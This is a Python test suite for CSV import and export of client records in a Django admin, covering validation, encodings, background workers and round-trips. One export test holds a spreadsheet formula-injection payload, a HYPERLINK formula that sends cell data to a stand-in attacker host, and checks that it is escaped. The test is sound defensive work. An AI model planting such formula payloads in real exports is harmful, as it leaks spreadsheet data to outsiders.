"""Import and export of clients as CSV in the admin."""

from collections.abc import Callable, Iterator
from datetime import timedelta

import pytest
from celery import current_app
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from limits import tasks
from limits.admin import client_files as pages
from limits.configfile import client_files
from limits.configfile.client_files import (
    CHUNK_SIZE,
    MAX_INTERRUPTIONS,
    begin_import,
    continue_import,
    unclaimed_imports,
)
from limits.models import Client, ClientImport
from tests.admin.desk import Desk
from tests.admin.uploads import run, upload
from tests.models import rows
from tests.publishing.platforms import Platform

pytestmark = pytest.mark.django_db(transaction=True)

FILE = "key,name,plan,status\nacme,Acme Ltd,pro,\nglobex,Globex,,blocked\n"


@pytest.fixture(autouse=True)
def pro(shop: Platform) -> None:
    rows.plan("pro")


def imported() -> dict[str, tuple[str, str, str]]:
    found = Client.objects.order_by("key").values_list("key", "name", "plan__slug", "status")
    return {key: (name, plan or "", status) for key, name, plan, status in found}


def test_a_file_is_previewed_then_imported_and_live(desk: Desk, shop: Platform) -> None:
    page = upload(desk, FILE)
    row = page.response.context["row"]
    assert (row.state, row.lines, row.added, row.changed, row.unchanged) == ("checked", 2, 1, 1, 0)
    assert "Nothing has been imported yet." in page.text
    assert "plan: <del>none</del> → <ins>pro</ins>" in page.text
    assert list(imported()) == ["acme"]

    assert "Imported." in run(desk).text
    assert imported() == {"acme": ("Acme Ltd", "pro", "active"), "globex": ("Globex", "", "blocked")}
    assert (shop.client("acme").plan, shop.client("globex").status) == ("pro", "blocked")  # type: ignore[union-attr]
    assert ClientImport.objects.get().content == ""


def test_the_history_of_each_client_contains_the_import(desk: Desk) -> None:
    upload(desk, FILE)
    run(desk)
    for record in (Client.objects.get(key="acme").history.first(), Client.objects.get(key="globex").history.first()):
        assert (record.history_user.username, record.history_change_reason) == ("ada", "The contract list.")


def test_a_repeated_import_changes_nothing(desk: Desk) -> None:
    for _ in range(2):
        page = upload(desk, FILE)
        run(desk)
    assert page.response.context["row"].unchanged == 2


@pytest.mark.parametrize(
    ("content", "client"),
    [
        ("key;name\nacme;Acme; Inc\n".replace("Acme; Inc", '"Acme; Inc"'), ("Acme; Inc", "", "active")),
        ("\ufeffKey , NAME\nacme,Ürün\n", ("Ürün", "", "active")),
        ('name,key\r\n"Two\nlines".replace,acme\r\n'.replace('"Two\nlines".replace', "Acme"), ("Acme", "", "active")),
        ("key,plan\nacme,pro\n\n", ("", "pro", "active")),
        ("key,status\nacme,exempt", ("", "", "exempt")),
    ],
)
def test_formats_of_spreadsheets_are_imported(desk: Desk, content: str, client: tuple[str, str, str]) -> None:
    upload(desk, content)
    run(desk)
    assert imported() == {"acme": client}


def test_a_missing_column_keeps_the_existing_values(desk: Desk) -> None:
    Client.objects.update(name="Acme Ltd", status="blocked", plan=Client.objects.get().plan)
    upload(desk, "key,plan\nacme,pro\n")
    run(desk)
    assert imported() == {"acme": ("Acme Ltd", "pro", "blocked")}


def test_invalid_lines_are_reported_and_nothing_is_imported(desk: Desk) -> None:
    page = upload(
        desk,
        "key,name,plan,status\nok,Fine,pro,active\n,No key,,\nok,Twice,,\na,A,gold,\nb,B,,gone\nc,C\nd,\x07,,\n"
        f"e,{'x' * 201},,\n",
    )
    problems = page.response.context["row"].problems
    assert [problem["line"] for problem in problems] == [3, 4, 5, 6, 7, 8, 9]
    for problem, message in zip(
        problems,
        (
            "1 to 256",
            "is a duplicate in the file",
            "no plan “gold”",
            "“gone” is not a status",
            "2 columns",
            "control",
            "200 characters",
        ),
        strict=True,
    ):
        assert message in problem["message"]
    assert "Nothing was imported: 7 lines have errors." in page.text
    run(desk)
    assert list(imported()) == ["acme"]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("name\nAcme\n", "one of them must be “key”"),
        ("key,price\nacme,5\n", "There is no column “price”"),
        ("key,key\nacme,acme\n", "names a column twice"),
    ],
)
def test_a_file_with_an_invalid_first_line_is_rejected(desk: Desk, content: str, message: str) -> None:
    assert message in upload(desk, content).text


@pytest.mark.parametrize(
    ("content", "why", "field", "message"),
    [
        (b"key\n\xff\xfe\n", "x", "file", "UTF-8"),
        ("key\na\0b\n", "x", "file", "not a text file"),
        ("", "x", "file", "empty"),
        (FILE, "", "why", "required"),
    ],
)
def test_an_invalid_file_or_reason_is_reported_at_its_field(
    desk: Desk, content: str | bytes, why: str, field: str, message: str
) -> None:
    page = upload(desk, content, why)
    assert message in page.response.context["form"].errors[field][0]
    assert not ClientImport.objects.exists()


def test_a_file_that_is_too_large_is_rejected(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pages, "MAX_FILE_BYTES", 10)
    assert "larger than 64 MB" in upload(desk, FILE).response.context["form"].errors["file"][0]


@pytest.fixture
def queue(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[[], int]]:
    """Treats every file as large. Returns a function for the number of tasks that wait in the broker."""
    monkeypatch.setattr(pages, "MAX_SYNCHRONOUS_BYTES", 10)
    with current_app.connection_for_read() as broker:
        broker.default_channel.queue_purge("celery")
        yield lambda: broker.default_channel.client.llen("celery")


def test_a_large_file_is_imported_by_a_worker_with_progress(
    desk: Desk, queue: Callable[[], int], shop: Platform
) -> None:
    page = upload(desk, FILE)
    row = ClientImport.objects.get()
    assert queue() == 1
    assert "0 of 3 lines" in page.text
    tasks.import_clients(row.pk)
    assert (
        "Nothing has been imported yet." in desk.open(reverse("admin:limits_clientimport_progress", args=[row.pk])).text
    )
    assert "The file is being imported." in run(desk).text
    assert queue() == 2
    tasks.import_clients(row.pk)
    assert shop.client("globex").status == "blocked"  # type: ignore[union-attr]


def leased(seconds: float) -> ClientImport:
    """Sets the import's lease to end in this many seconds, as left by another process."""
    ClientImport.objects.update(leased_until=timezone.now() + timedelta(seconds=seconds))
    return ClientImport.objects.get()


def test_an_import_is_processed_by_one_process_at_a_time(desk: Desk, queue: Callable[[], int]) -> None:
    upload(desk, FILE)
    row = leased(60)
    assert unclaimed_imports() == []
    assert continue_import(row.pk, 60.0)
    assert ClientImport.objects.get().state == "checking"


def test_an_import_of_a_killed_worker_is_continued(desk: Desk, queue: Callable[[], int]) -> None:
    upload(desk, FILE)
    row = leased(-1)
    assert unclaimed_imports() == [row.pk]
    tasks.continue_imports()
    assert queue() == 2
    tasks.import_clients(row.pk)
    assert ClientImport.objects.get().state == "checked"
    assert unclaimed_imports() == []


def test_an_import_that_repeatedly_kills_its_workers_fails_and_can_be_retried(
    desk: Desk, queue: Callable[[], int]
) -> None:
    upload(desk, FILE)
    ClientImport.objects.update(interruptions=MAX_INTERRUPTIONS)
    assert continue_import(leased(-1).pk, 60.0)
    row = ClientImport.objects.get()
    assert row.state == "failed"
    page = desk.open(reverse("admin:limits_clientimport_change", args=[row.pk]))
    assert "was interrupted 4 times at the same line" in page.text
    assert "Check file again" in page.text
    run(desk)
    assert continue_import(row.pk, 60.0)
    row.refresh_from_db()
    assert (row.state, row.added, row.changed) == ("checked", 1, 1)


def test_an_unexpected_error_ends_an_import_and_is_shown(desk: Desk, queue: Callable[[], int]) -> None:
    """A value as in a database of an older release; this release never writes it."""
    upload(desk, FILE)
    ClientImport.objects.update(examples="no list")
    row = ClientImport.objects.get()
    assert continue_import(row.pk, 60.0)
    row.refresh_from_db()
    assert (row.state, row.content) == ("failed", FILE)
    assert "unexpected error" in desk.open(reverse("admin:limits_clientimport_change", args=[row.pk])).text


def test_checking_a_file_does_not_rewrite_its_content(desk: Desk, queue: Callable[[], int]) -> None:
    upload(desk, "key\n" + "".join(f"key-{number}\n" for number in range(2 * CHUNK_SIZE)))
    row = ClientImport.objects.get()
    with CaptureQueriesContext(connection) as queries:
        assert continue_import(row.pk, 60.0)
    updates = [query["sql"] for query in queries if query["sql"].startswith("UPDATE")]
    assert len(updates) >= 3
    assert not any('"content" =' in update for update in updates)


def test_an_import_reads_the_file_once(desk: Desk, queue: Callable[[], int], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(client_files, "CHUNK_SIZE", 1)
    row = ClientImport.objects.create(
        content="key\n" + "".join(f"k{at}\n" for at in range(9)), state="checked", lines=9
    )
    begin_import(row)
    with CaptureQueriesContext(connection) as queries:
        assert continue_import(row.pk, 600)
    assert Client.objects.filter(key__startswith="k").count() == 9
    reading = [query["sql"] for query in queries if query["sql"].startswith("SELECT") and '"content"' in query["sql"]]
    assert len(reading) == 1


def test_a_long_import_continues_where_it_stopped(desk: Desk, queue: Callable[[], int]) -> None:
    lines = [f"key-{number}\n" for number in range(2 * CHUNK_SIZE + 5)]
    upload(desk, "key\n" + "".join([*lines, "key-3\n"]))
    row = ClientImport.objects.get()
    assert [continue_import(row.pk, 0.0) for _ in range(3)] == [False, False, False]
    assert continue_import(row.pk, 0.0)
    row.refresh_from_db()
    assert (row.state, row.problem_count, row.problems[0]["line"]) == ("refused", 1, 2 * CHUNK_SIZE + 7)

    upload(desk, "key\n" + "".join(lines))
    row = ClientImport.objects.latest("id")
    assert continue_import(row.pk, 60.0)
    assert begin_import(ClientImport.objects.get(pk=row.pk))
    assert not continue_import(row.pk, 0.0)
    assert Client.objects.count() == CHUNK_SIZE + 1
    assert continue_import(row.pk, 60.0)
    assert Client.objects.count() == 2 * CHUNK_SIZE + 6


def test_an_import_can_be_started_only_once(desk: Desk) -> None:
    upload(desk, FILE)
    row = ClientImport.objects.get()
    assert [begin_import(row), begin_import(row)] == [True, False]


def test_an_export_can_be_imported_again(desk: Desk) -> None:
    rows.client('a,"b"', name="Comma, Inc\u2028", plan=None, status="exempt")
    answer = desk.client.get(reverse("admin:limits_client_export_clients"))
    content = b"".join(answer.streaming_content).decode()  # type: ignore[attr-defined]
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert [line.fields["key"] for line in client_files.parse_lines(content)] == ['a,"b"', "acme"]
    assert upload(desk, content).response.context["row"].unchanged == 2


def test_a_name_like_a_formula_is_exported_as_text_and_can_be_imported(desk: Desk) -> None:
    rows.client("=1+1", name='=HYPERLINK("http://evil.example/"&A1)')
    rows.client("two\u2028lines", name="a\u2029b")
    answer = desk.client.get(reverse("admin:limits_client_export_clients"))
    content = b"".join(answer.streaming_content)  # type: ignore[attr-defined]
    assert content.startswith(b"\xef\xbb\xbfkey,name,plan,status,tags,parent\r\n")
    assert "\r\n'=1+1,\"'=HYPERLINK(" in content.decode()
    assert upload(desk, content).response.context["row"].unchanged == 3


def test_spaces_around_a_key_are_reported_before_anything_is_imported(desk: Desk) -> None:
    rows.client(" known ")
    page = upload(desk, "key\n im-13 \nim-14\n known \n\u00a0im-15\n")
    found = [(example["key"], "spaces around" in example["what"]) for example in page.response.context["row"].examples]
    assert found == [(" im-13 ", True), ("im-14", False), ("\u00a0im-15", True)]
    assert "not the same client as the key without spaces" in page.text


def test_a_file_in_utf_16_is_read(desk: Desk) -> None:
    upload(desk, "key\tname\nacme\tÜrün\n".encode("utf-16"))
    run(desk)
    assert imported() == {"acme": ("Ürün", "", "active")}


def test_an_export_can_be_filtered_by_plan_or_status(desk: Desk) -> None:
    rows.client("globex", status="blocked")
    answer = desk.client.get(reverse("admin:limits_client_export_clients"), {"status": "blocked"})
    assert b"".join(answer.streaming_content).decode().split("\r\n")[1:] == ["globex,,,blocked,,", ""]  # type: ignore[attr-defined]
